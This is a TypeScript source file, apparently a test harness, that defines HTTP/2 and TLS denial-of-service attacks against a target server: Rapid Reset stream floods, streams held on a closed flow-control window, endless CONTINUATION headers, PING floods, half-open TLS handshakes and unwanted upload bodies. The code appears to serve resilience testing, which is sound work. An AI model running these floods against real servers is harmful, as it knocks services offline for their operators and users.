import { setTimeout as pause } from 'node:timers/promises'
import { FLAG, FRAME, frame, headerBlock, initialWindow } from '../../../fixture/http2-attacker.js'
import { type Attack, hold, openRaw, openSecure } from './attack.js'

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
const DATA = 0

/** A preface after which the server may send no byte of a body. */
const CLOSED_WINDOW = Buffer.concat([PREFACE, initialWindow(0)])

const get = (stream: number, path: string) =>
  frame(FRAME.HEADERS, FLAG.END_STREAM | FLAG.END_HEADERS, stream, headerBlock(path))

const identifiers = (count: number) => Array.from({ length: count }, (_, each) => 2 * each + 1)

/** Opens thousands of streams whose responses may not be sent. */
export const closedWindows: Attack = async (target) => {
  const sockets = await openSecure(3, target, 'h2')
  for (const socket of sockets) {
    socket.write(
      Buffer.concat([CLOSED_WINDOW, ...identifiers(5_000).map((id) => get(id, '/stable-0'))]),
    )
  }
  await hold(sockets, target.draw)
}

/** Opens streams and resets each at once. */
export const rapidReset: Attack = async (target) => {
  const sockets = await openSecure(3, target, 'h2')
  const cancel = Buffer.from([0, 0, 0, 8])
  const both = (id: number) => [get(id, '/stable-1'), frame(FRAME.RST_STREAM, 0, id, cancel)]
  for (const socket of sockets) {
    socket.write(Buffer.concat([CLOSED_WINDOW, ...identifiers(5_000).flatMap(both)]))
  }
  await hold(sockets, target.draw)
}

/** Sends header blocks that never end, one byte or a full frame at a time. */
export const endlessHeaders: Attack = async (target) => {
  const sockets = await openSecure(10, target, 'h2')
  const more = frame(FRAME.CONTINUATION, 0, 1, Buffer.alloc(target.draw.oneOf([1, 16_000])))
  for (const socket of sockets) {
    socket.write(Buffer.concat([CLOSED_WINDOW, frame(FRAME.HEADERS, 0, 1, headerBlock('/'))]))
  }
  for (let sent = 0; sent < 20; sent += 1) {
    await pause(200)
    for (const socket of sockets) if (!socket.destroyed) socket.write(more)
  }
  for (const socket of sockets) socket.destroy()
}

/** Asks for answers that cost the server more than the question. */
export const pings: Attack = async (target) => {
  const sockets = await openSecure(2, target, 'h2')
  const flood = Buffer.concat(
    Array.from({ length: 10_000 }, () => frame(FRAME.PING, 0, 0, Buffer.alloc(8))),
  )
  for (const socket of sockets) {
    socket.pause()
    socket.write(Buffer.concat([CLOSED_WINDOW, flood]))
  }
  await hold(sockets, target.draw)
}

/** Begins the handshake of TLS, and no more. */
export const halfHandshakes: Attack = async (target) => {
  const sockets = await openRaw(50, target)
  // The start of a record of 512 bytes with a ClientHello.
  const start = Buffer.from([22, 3, 1, 2, 0, 1])
  const said = target.draw.oneOf([Buffer.alloc(0), start, Buffer.from('GET / HTTP/1.1\r\n\r\n')])
  for (const socket of sockets) if (said.length > 0) socket.write(said)
  await hold(sockets, target.draw)
}

/** Sends a body of which the server wants nothing. */
export const uploads: Attack = async (target) => {
  const sockets = await openSecure(3, target, 'h2')
  const body = Buffer.concat(
    identifiers(20).flatMap((id) => [
      frame(FRAME.HEADERS, FLAG.END_HEADERS, id, headerBlock('/stable-2')),
      frame(DATA, 0, id, Buffer.alloc(3_000)),
    ]),
  )
  for (const socket of sockets) socket.write(Buffer.concat([CLOSED_WINDOW, body]))
  await hold(sockets, target.draw)
}
